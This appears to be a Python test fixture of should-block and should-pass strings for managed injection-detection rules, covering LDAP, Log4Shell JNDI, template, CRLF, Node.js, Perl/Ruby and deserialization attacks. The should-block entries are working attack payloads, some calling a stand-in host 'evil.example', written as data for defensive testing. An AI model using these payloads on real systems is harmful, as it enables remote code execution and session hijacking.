"""Should-block / should-pass payloads of the ``rules/managed/attacks_injection.py`` classes (see ``cases.py``)."""

from __future__ import annotations

from tests.rules.case import Case

CASES: tuple[Case, ...] = (
    Case(
        "LDAPInjection",
        ("admin)(|(password=*", "*)(uid=*))(|(uid=*", "john)(sn~=smith"),
        ("(see above)", "Smith (née Jones)", "see chapter (2) notes"),
    ),
    Case(
        "Log4JRCE",
        ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
    ),
    Case(
        "TemplateInjection",
        ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "${7*7}"),
        ("Hello {{ name }}!", "{% raw %}", "a*b = 7*7"),
    ),
    Case(
        "CRLFInjection",
        ("\r\nSet-Cookie: session=attacker", "en\r\nLocation: http://evil.example/"),
        ("line one\r\nline two", "Location: Berlin"),
    ),
    Case(
        "CRLFInjectionBody",
        ("x\r\nSet-Cookie: a=b", "\r\nLocation: https://evil.example/"),
        ("Order notes\r\nDelivery: leave at the door", "first\r\nsecond"),
    ),
    Case(
        "NodeJSInjection",
        (
            '{"__proto__": {"isAdmin": true}}',
            "require('child_process').exec('id')",
            "_$$ND_FUNC$$_function(){}()",
            "while(true);",
            "new Function (",
            "__js_function",
            "a[constructor][prototype]=x",
            "#{require.main.constructor._load('fs')}",
            "{'_formData':{'get':'$3:constructor:constructor'}}",
            '{"0":"$7:Module:prototype"}',
            "while(new Date);",
            "while(!``);",
            '{"constructor": {"prototype": {"isAdmin": true}}}',
            "Function('return this')()",
        ),
        (
            "While you wait, read this",
            "The __proto__ property is deprecated",
            "the child process of adoption",
            "Use `console.log(x)` to debug",
            "while (this) loads, wait",
            "The constructor of the prototype building",
            "require main entrance access",
            '{"price": "$3:00", "note": "$7: Module prototype"}',
            '{"constructor": "Acme Builders", "prototype": "v2"}',
            "a function (return policy applies)",
        ),
    ),
    Case(
        "PerlRubyInjection",
        (
            "@{[system 'id']}",
            "@{   [ uc 'x' ] }",
            'Process.spawn("id")',
            "Kernel.exec('id')",
            "IO.popen('id')",
            "obj.send(:system, 'id')",
            'open(FH, "|id")',
        ),
        (
            "email me @ {work} [urgent]",
            "@{user} mentioned you",
            "the process spawns workers",
            "I/O. Popen later",
            "send (the email) now",
            "open (24/7) | closed sundays",
        ),
    ),
    Case(
        "UnsafeDeserialization",
        (
            "--- !ruby/object:Gem::Installer\ni: x",
            "!!python/object/apply:os.system ['id']",
            "cos\nsystem\n(S'id'\ntR.",
            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
        ),
        (
            "ruby/object docs",
            "python object model",
            "the cost\nsystem",
            "!!important!! read this",
            "tags: !ruby, !python",
        ),
    ),
    Case(
        "JavaDeserializationRCE",
        (
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "java.lang.Runtime.getRuntime().exec('id')",
            "ProcessBuilder",
            "java.Runtime",
            "java.evil.runtime",
            "xKztAAUc3IAEWphdmE",
            "AACs7QAFc3IAEWphdmE",
            "yv66vgAAADQAInByb2Nlc3NCdWlsZGVy",
            "QUFBaW52b2tlcnRyYW5zZm9ybWVy",
            "java/lang/Runtime",
            "ch.qos.logback.core.db.JNDIConnectionSource",
            "javax.el.ELProcessor",
        ),
        (
            "I love Java and coffee",
            "runtime error on page 3",
            "java coffee beans",
            "java.runtime.version=17.0.2",
            '{"type": "com.example.Order", "runtime": "java17"}',
            "cnVudGltZQ",
            "logback.xml config for groovy scripts",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        ),
    ),
)
